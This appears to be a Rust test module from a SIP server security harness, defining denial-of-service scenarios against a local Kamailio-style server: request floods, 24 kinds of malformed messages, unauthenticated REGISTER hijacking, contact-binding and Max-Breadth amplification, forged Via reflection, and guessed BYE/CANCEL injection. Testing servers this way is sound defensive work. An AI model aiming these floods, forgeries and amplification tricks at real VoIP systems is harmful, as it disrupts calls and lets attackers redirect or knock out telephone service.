//! Denial of service of eight kinds: volume, malformed messages, REGISTER
//! without credentials, bindings, forged sources, CANCEL and BYE, re-INVITE,
//! and amplification.

use crate::phone::{Manner, PATIENCE, Phone};
use crate::scenario::{Flood, Scale, Scenario, Tally, beside};
use crate::target::Setup;
use crate::wire::{Draft, MARK, Text, word};
use crate::world::World;

pub(super) const SCENARIOS: &[Scenario] = &[
    Scenario {
        name: "flood.volume",
        tries: "OPTIONS and INVITE of strangers from eight addresses, 30,000 a second.",
        through: "a request that reaches a user; callers that lose calls; memory that stays.",
        setup: |_| {},
        not_kamailio: None,
        run: volume,
    },
    Scenario {
        name: "flood.malformed",
        tries: "Messages with every kind of fault, and with bytes altered by chance.",
        through: "an end of the server; callers that lose calls; memory that stays.",
        setup: |_| {},
        not_kamailio: None,
        run: malformed,
    },
    Scenario {
        name: "flood.register",
        tries: "REGISTER without credentials for ever other users.",
        through: "a contact that is bound; callers that lose calls; memory that stays.",
        setup: |_| {},
        not_kamailio: None,
        run: register,
    },
    Scenario {
        name: "flood.bindings",
        tries: "A user registers contacts without end at a victim's address, and is called.",
        through: "more than ten packets to the victim for one call.",
        setup: |_| {},
        not_kamailio: None,
        run: bindings,
    },
    Scenario {
        name: "flood.forged-source",
        tries: "Requests in whose source, Via and Record-Route a victim's address is forged.",
        through: "more than one packet, or more than two bytes for each one, to the victim.",
        setup: |_| {},
        not_kamailio: None,
        run: forged_source,
    },
    Scenario {
        name: "flood.cancel-bye",
        tries: "CANCEL and BYE for the calls of others, with guessed identifiers.",
        through: "one that reaches a user; callers that lose calls.",
        setup: |_| {},
        not_kamailio: None,
        run: |world, scale| in_dialog(world, scale, &["BYE", "CANCEL"]),
    },
    Scenario {
        name: "flood.re-invite",
        tries: "re-INVITE with a broadcast address for media into a call of others.",
        through: "one that reaches a user; callers that lose calls.",
        setup: |_| {},
        not_kamailio: None,
        run: |world, scale| in_dialog(world, scale, &["INVITE"]),
    },
    Scenario {
        name: "flood.spirals",
        tries: "Ten contacts that are the server's own names, Max-Breadth of 2^32-1, and a call to them in an open server.",
        through: "more than sixty packets to a victim for one call, or a server that is busy with it for ever.",
        setup: open,
        not_kamailio: None,
        run: spirals,
    },
];

fn open(setup: &mut Setup) {
    setup.own_configuration = true;
    setup
        .tables
        .push_str("[authentication]\nrequired = false\n");
    setup.kamailio.push("OPEN");
}

fn volume(world: &mut World, scale: &Scale) -> Result<Tally, String> {
    let mut tally = Tally::default();
    let mark = word("volume");
    let flood = Flood::of(scale, 300_000);
    beside(world, scale, &mut tally, || {
        flood.send(world, |n, local| {
            let method = if n % 2 == 0 { "INVITE" } else { "OPTIONS" };
            let draft = Draft::new(method, "sip:x@x.invalid", &world.bob_aor()).mark(&mark);
            draft.render(local, "UDP")
        })
    })?;
    world.settle();
    let n = world.reached(&mark);
    tally.break_in(n, || format!("{n} reached a user"));
    Ok(tally)
}

fn register(world: &mut World, scale: &Scale) -> Result<Tally, String> {
    let mut tally = Tally::default();
    let flood = Flood::of(scale, 300_000);
    beside(world, scale, &mut tally, || {
        flood.send(world, |n, local| {
            let aor = match n % 4 {
                0 => world.ceo_aor(),
                _ => format!("sip:user{n}@{}", world.domain),
            };
            Draft::new("REGISTER", &aor, &aor)
                .uri(&format!("sip:{}", world.domain))
                .contact(&world.mallory.contact())
                .render(local, "UDP")
        })
    })?;
    let mark = word("after");
    let invite = world
        .alice
        .invite(&world.alice_aor(), &world.ceo_aor())
        .mark(&mark);
    let _ = world.alice.call(world.to(), &invite, world.alice_account());
    let n = world.mallory.marked(&mark);
    tally.break_in(n, || "a call to ceo came to mallory".to_owned());
    Ok(tally)
}

/// A good request, and what is done to it.
fn spoilt(n: u64, good: &[u8]) -> Vec<u8> {
    let text = String::from_utf8_lossy(good).into_owned();
    let long = "x".repeat(20_000);
    match n % 24 {
        0 => text.replace("SIP/2.0\r\n", "SIP/7.0\r\n"),
        1 => text.replace("Content-Length: 0", "Content-Length: -1"),
        2 => text.replace("Content-Length: 0", "Content-Length: 4294967328"),
        3 => text.replace(
            "Content-Length: 0",
            &format!("Content-Length: {}", "9".repeat(400)),
        ),
        4 => text.replace("\r\n", "\n"),
        5 => text.replace("\r\n", "\r"),
        6 => text.replace("CSeq: 1", "CSeq: 99999999999"),
        7 => text.replace("Via:", "Via: ,"),
        8 => text.replace("To: <", "To: <<<<"),
        9 => text.replace("From: <", "From: \"\\"),
        10 => text.replace("Call-ID:", "Call-ID: \0"),
        11 => text.replace("Max-Forwards: 70", "Max-Forwards: 999999"),
        12 => text.replace("Max-Forwards: 70", &"Via: SIP/2.0/UDP h\r\n".repeat(900)),
        13 => text.replace("Max-Forwards: 70", &format!("X: {long}")),
        14 => text.replace("SIP/2.0/UDP", "SIP/2.0/UDP/UDP/;;;"),
        15 => text.replace("To:", "To\x01:"),
        16 => text.replace(
            "Max-Forwards: 70",
            &format!("Authorization: Digest {}", "a=b,".repeat(900)),
        ),
        17 => text.replace("sip:", "sip:%%%"),
        18 => text.replace("branch=", "branch=\""),
        19 => text.replace(";tag=", &";p".repeat(800)),
        20 => text.replace("Max-Forwards: 70", "Route: <sip:[::::::::]:99999;lr>"),
        21 => return good.get(..good.len() * 2 / 3).unwrap_or(good).to_vec(),
        22 => return Vec::from("SIP/2.0 200\r\n\r\n"),
        _ => {
            // Bytes by chance, from a seed that is the number.
            let mut bytes = good.to_vec();
            let mut seed = n.wrapping_mul(0x9E37_79B9_7F4A_7C15) | 1;
            for _ in 0..8 {
                seed ^= seed << 13;
                seed ^= seed >> 7;
                seed ^= seed << 17;
                let at = usize::try_from(seed >> 16).unwrap_or(0) % bytes.len().max(1);
                if let Some(byte) = bytes.get_mut(at) {
                    *byte = u8::try_from(seed & 0xff).unwrap_or(0);
                }
            }
            return bytes;
        }
    }
    .into_bytes()
}

fn malformed(world: &mut World, scale: &Scale) -> Result<Tally, String> {
    let mut tally = Tally::default();
    let flood = Flood {
        packets: scale.of(480, 200_000),
        sources: 16,
        per_s: 20_000,
    };
    beside(world, scale, &mut tally, || {
        flood.send(world, |n, local| {
            let methods = ["INVITE", "REGISTER", "OPTIONS", "ACK", "CANCEL"];
            let method = methods
                .get(usize::try_from(n / 24 % 5).unwrap_or(0))
                .unwrap_or(&"BYE");
            let good = Draft::new(method, "sip:x@x.invalid", &world.bob_aor()).render(local, "UDP");
            spoilt(n, &good)
        })
    })?;
    Ok(tally)
}

fn bindings(world: &mut World, scale: &Scale) -> Result<Tally, String> {
    let mut tally = Tally::default();
    let victim = Phone::at([127, 0, 8, 1])?;
    victim.manner(Manner::Silent);
    let aor = world.mallory_aor();
    let all: Vec<String> = (0..scale.of(40, 400))
        .map(|n| format!("<sip:v{n}@{}>", victim.local))
        .collect();
    let all_at_once = all.join(", ");
    let mut taken = 0;
    for contact in all.iter().chain([&all_at_once]) {
        let draft = Draft::new("REGISTER", &aor, &aor)
            .uri(&format!("sip:{}", world.domain))
            .contact(contact);
        let (_, answer) = world
            .mallory
            .ask_as(world.to(), &draft, world.mallory_account())?;
        taken += u64::from(answer.status() == Some(200));
        tally.try_many(1);
    }
    let mark = word("forks");
    let draft = world.alice.invite(&world.alice_aor(), &aor).mark(&mark);
    let first = world.alice.ask(world.to(), &draft)?;
    let next = crate::phone::authorize(&draft, &first, world.alice_account());
    world
        .alice
        .send(world.to(), next.as_ref().unwrap_or(&draft));
    world.settle();
    let n = victim.marked(&mark);
    if taken == 0 || n == 0 {
        return Err(format!(
            "{taken} contacts were taken, and a call made {n} packets to them"
        ));
    }
    tally.break_in(n.saturating_sub(10), || {
        format!("one call made {n} packets")
    });
    Ok(tally)
}

fn forged_source(world: &mut World, scale: &Scale) -> Result<Tally, String> {
    let mut tally = Tally::default();
    // The victim's own socket stands for its forged address.
    let (victim, third) = (Phone::at([127, 0, 8, 1])?, Phone::at([127, 0, 8, 2])?);
    let mut sent_bytes = 0;
    for n in 0..scale.of(30, 3_000) {
        let methods = ["REGISTER", "INVITE", "OPTIONS", "MESSAGE", "SUBSCRIBE"];
        let method = methods
            .get(usize::try_from(n % 5).unwrap_or(0))
            .unwrap_or(&"BYE");
        let from = if n % 2 == 0 {
            world.alice_aor()
        } else {
            "sip:x@x.invalid".to_owned()
        };
        // As phones write requests: with what they support and who they are.
        let mut draft = Draft::new(method, &from, &world.bob_aor())
            .contact(&victim.contact())
            .with("User-Agent", "Phone 1.0 of a maker with a name")
            .with(
                "Allow",
                "INVITE, ACK, CANCEL, BYE, OPTIONS, MESSAGE, NOTIFY, REFER, INFO, UPDATE",
            )
            .with(
                "Supported",
                "replaces, timer, outbound, path, gruu, norefersub",
            );
        draft = draft.with("Record-Route", &format!("<sip:{};lr>", third.local));
        let via = format!("SIP/2.0/UDP {};branch={}", third.local, draft.branch);
        let bytes = if n % 3 == 0 {
            // Only the Via is forged: the answer goes to where the packet came from.
            draft.via = Some(via);
            draft.render(victim.local, "UDP")
        } else {
            draft.render(victim.local, "UDP")
        };
        victim.send_bytes(world.to(), &bytes);
        tally.try_many(1);
        sent_bytes += bytes.len() as u64;
        world.settle_briefly();
    }
    world.settle();
    // What is repeated because nobody acknowledges it counts as well.
    std::thread::sleep(std::time::Duration::from_millis(1_700));
    let (packets, back_bytes) = victim.received();
    let more = packets.saturating_sub(tally.tried);
    tally.break_in(more, || format!("{packets} packets came back"));
    let more = back_bytes.saturating_sub(2 * sent_bytes);
    tally.break_in(u64::from(more > 0), || {
        format!("{back_bytes} bytes came back for {sent_bytes}")
    });
    let n = third.received().0;
    tally.break_in(n, || {
        format!("{n} packets went to an address in Via or Record-Route")
    });
    Ok(tally)
}

fn in_dialog(world: &mut World, scale: &Scale, methods: &[&str]) -> Result<Tally, String> {
    let mut tally = Tally::default();
    let invite = world.alice.invite(&world.alice_aor(), &world.bob_aor());
    let mut dialog = world
        .alice
        .call(world.to(), &invite, world.alice_account())?;
    let mark = word("dialog");
    let base = dialog.request("BYE").mark(&mark);
    let flood = Flood::of(scale, 200_000);
    let world = &*world;
    beside(world, scale, &mut tally, || {
        flood.send(world, |n, local| {
            let mut draft = base.clone();
            let at = usize::try_from(n).unwrap_or(0) % methods.len().max(1);
            draft.method = methods.get(at).map_or("BYE", |method| method).to_owned();
            draft.branch = word("z9hG4bK");
            draft.cseq = 10 + u32::try_from(n % 1_000_000).unwrap_or(0);
            if n % 2 == 0 {
                draft.routes.clear();
                draft.call_id = word("guess");
            } else {
                draft.routes = vec![format!("<sip:{};lr>", world.to())];
            }
            draft.body = b"c=IN IP4 255.255.255.255\r\n".to_vec();
            draft.render(local, "UDP")
        })
    })?;
    world.settle();
    let n = world.reached(&mark);
    tally.break_in(n, || format!("{n} reached a user"));
    let bye = dialog.request("BYE");
    let answer = world.alice.ask(world.to(), &bye)?;
    tally.judge(answer.status() != Some(200), || {
        format!("the call's own BYE got {}", answer.start)
    });
    Ok(tally)
}

fn spirals(world: &mut World, _: &Scale) -> Result<Tally, String> {
    let mut tally = Tally::default();
    let place = world.server.place();
    let victim = Phone::at([127, 0, 8, 1])?;
    let aor = world.mallory_aor();
    let user = world.mallory_account().user.clone();
    let mut contacts: Vec<String> = (0..9)
        .map(|v| format!("<sip:{user}@{place};v={v}>"))
        .collect();
    contacts.push(victim.contact());
    for contact in &contacts {
        let draft = Draft::new("REGISTER", &aor, &aor)
            .uri(&format!("sip:{}", world.domain))
            .contact(contact);
        let answer = world.mallory.ask(world.to(), &draft)?;
        // A server may refuse its own names, and not the victim's.
        if *contact == victim.contact() && answer.status() != Some(200) {
            return Err(format!("the victim's contact got {}", answer.start));
        }
    }
    let mut reached = 0;
    for breadth in ["60", "4294967295", "18446744073709551615"] {
        let mark = word("spiral");
        let draft = Draft::new("OPTIONS", "sip:x@x.invalid", &aor)
            .with("Max-Breadth", breadth)
            .mark(&mark);
        let _ = world
            .foreign
            .ask_for(std::time::Duration::from_secs(1), world.to(), &draft);
        world.settle();
        let marked = |r: &Text| r.header(MARK) == Some(&mark);
        let n = victim.seen(marked).len() as u64;
        reached += n;
        tally.judge(n > 60, || {
            format!("Max-Breadth {breadth}: one request made {n}")
        });
        // What is still going round after this is busy with itself.
        let answered = world.server.answers(PATIENCE);
        tally.judge(!answered, || "the server does not answer".to_owned());
    }
    if reached == 0 {
        return Err("no request came to the victim".to_owned());
    }
    Ok(tally)
}
